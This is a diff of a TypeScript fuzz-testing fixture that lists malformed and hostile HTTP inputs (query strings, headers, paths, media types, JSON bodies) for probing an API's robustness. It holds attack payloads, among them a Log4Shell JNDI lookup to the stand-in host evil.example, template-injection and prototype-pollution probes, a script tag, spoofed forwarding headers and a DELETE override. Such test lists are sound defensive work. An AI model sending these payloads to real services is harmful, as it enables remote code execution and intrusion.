@@ -1,5 +1,8 @@
+/** A piece of a text, which may be repeated: constant, or with a number. */
+export type Piece = string | ((n: number) => string)
+
 /** Texts that often cause errors. */
-export const HOSTILE_TEXTS: readonly string[] = [
+export const HOSTILE_TEXTS: readonly Piece[] = [
   '',
   ' ',
   '\u0000',
@@ -48,10 +51,132 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '999,999',
   'NaN,0',
   'İstanbul ß ﬁ',
-  '😀'.repeat(201),
-  'a'.repeat(5_000),
+  '😀',
+  'a',
   '{{7*7}}',
   '${jndi:ldap://evil.example/}',
+]
+
+/** Parameters that do not exist, are invalid, or are no parameters. */
+export const QUERY_PIECES: readonly Piece[] = [
+  '%&',
+  '&',
+  '=&',
+  'a&',
+  '%zz=1&',
+  'a=%ff&',
+  '%00&',
+  '+&',
+  '%41',
+  '%c3%a9',
+  'limit=1&',
+  '"&',
+  'limit=x&',
+  'format=json&',
+  'a[b]=1&',
+  'ordering=',
+  'offset=1&limit=18&',
+  '__proto__=1&',
+  'constructor[prototype]=1&',
+  'utm_source=1&',
+  'Limit=1&',
+  (n) => `${n}&`,
+  (n) => `k${n}=%&`,
+  (n) => `${n}=${'%e2%82'.repeat(8)}&`,
+]
+
+/** By the name of the header. None selects HTML or a content coding, which the contract does not describe. */
+export const HEADER_PIECES: Readonly<Record<string, readonly Piece[]>> = {
+  accept: [
+    'a/b,',
+    'application/json,',
+    'text/html;q=0.1, application/json;q=0.9,',
+    'image/png',
+    'application/json;q=0',
+    'application/*;q=2',
+    '*/*;q=0.5,',
+    ';',
+    ',',
+    'a/b;c="d,e",',
+    '"',
+    (n) => `a/b${n};q=0.${n},`,
+    (n) => `image/png;level=${n};q=0.1,`,
+  ],
+  'accept-language': ['en;q=0.5,', 'a,'],
+  authorization: ['Bearer a', 'a', ' ', 'Basic YTpi', `Bearer amk_${'a'.repeat(43)}`],
+  'content-encoding': ['gzip', 'identity'],
+  cookie: ['a=b; __proto__=1; '],
+  expect: ['a', '100-continue'],
+  forwarded: ['for=1.2.3.4;host=evil.example,'],
+  'idempotency-key': ['"', 'a', ' ', '"a"', 'a b', 'é'],
+  'if-match': ['"a",', 'W/"a",', ',', '"', '*', 'garbage'],
+  'if-none-match': ['"a",', 'W/"a",', ',', '"', ' ,', '*', '*,', (n) => `"${n}",`],
+  origin: ['https://evil.example', 'null'],
+  prefer: ['a=b, '],
+  range: ['bytes=0-1,', 'bytes=9-1'],
+  traceparent: ['00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', '00-', '0'],
+  upgrade: ['h2c', 'websocket'],
+  'user-agent': ['', '<script>', "'"],
+  'x-forwarded-for': ['127.0.0.1,', '::1,', 'a\tb', ',', '2001:db8::1, '],
+  'x-forwarded-host': ['evil.example'],
+  'x-forwarded-proto': ['javascript'],
+  'x-http-method-override': ['DELETE'],
+}
+
+export const PATH_PIECES: readonly Piece[] = ['/', '/a', '%41', '%2f', 'a', '/..', '%zz']
+
+export const MEDIA_TYPES: readonly Piece[] = [
+  'text/plain',
+  'application/json; charset=latin1',
+  'application/json; charset=utf-8',
+  'application/json;;;=',
+  'application/json;a=b;',
+  'a/b;a="\\',
+  '*/*',
+  'json',
+]
+
+export const BODY_PIECES: readonly Piece[] = [
+  '{},',
+  '[],',
+  '1,',
+  '"",',
+  'null,',
+  '"a":1,',
+  '"a":{},',
+  '0.1,',
+  '1e1,',
+  '"\\ud800",',
+  'a',
+  '\\u0000',
+  '\\u0061',
+  '\\"',
+  '\\n',
+  ' ',
+  '\n',
+  '[',
+  '{"a":',
+  '0',
+  '[[]],',
+  ',',
+  '~',
+  '/',
+  (n) => `"k${n}":1,`,
+  (n) => `"k${n}":{"a":[${n}]},`,
+  (n) => `{"a":${n}},`,
+  (n) => `${n}.5,`,
+]
+
+/** The texts around the pieces of a body. */
+export const FRAMES: readonly (readonly [string, string])[] = [
+  ['', ''],
+  ['"', '"'],
+  ['[', '1]'],
+  ['{', '"z":1}'],
+  ['{"title":"', '"}'],
+  ['{"artists":[', '1]}'],
+  ['{"featured_image":{', '"z":1}}'],
+  ['{"a":', '1}'],
 ]
 
 /** Values that JSON.stringify would not write. */
@@ -89,12 +214,9 @@ export const HOSTILE_BODIES: readonly Buffer[] = [
   Buffer.from('\ufeff{}'),
   Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]),
   Buffer.from([0xed, 0xa0, 0x80]),
-  Buffer.from('['.repeat(50_000)),
   Buffer.from('{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000)),
   Buffer.from('{"__proto__":{"title":"a"}}'),
   Buffer.from('{"constructor":{"prototype":{"a":1}}}'),
-  Buffer.from(`{"title":${'1'.repeat(100_000)}}`),
-  Buffer.from(`{${Array.from({ length: 5_000 }, (_, n) => `"k${n}":${n}`).join(',')}}`),
 ]
 
 /** Malformed HTTP requests. */
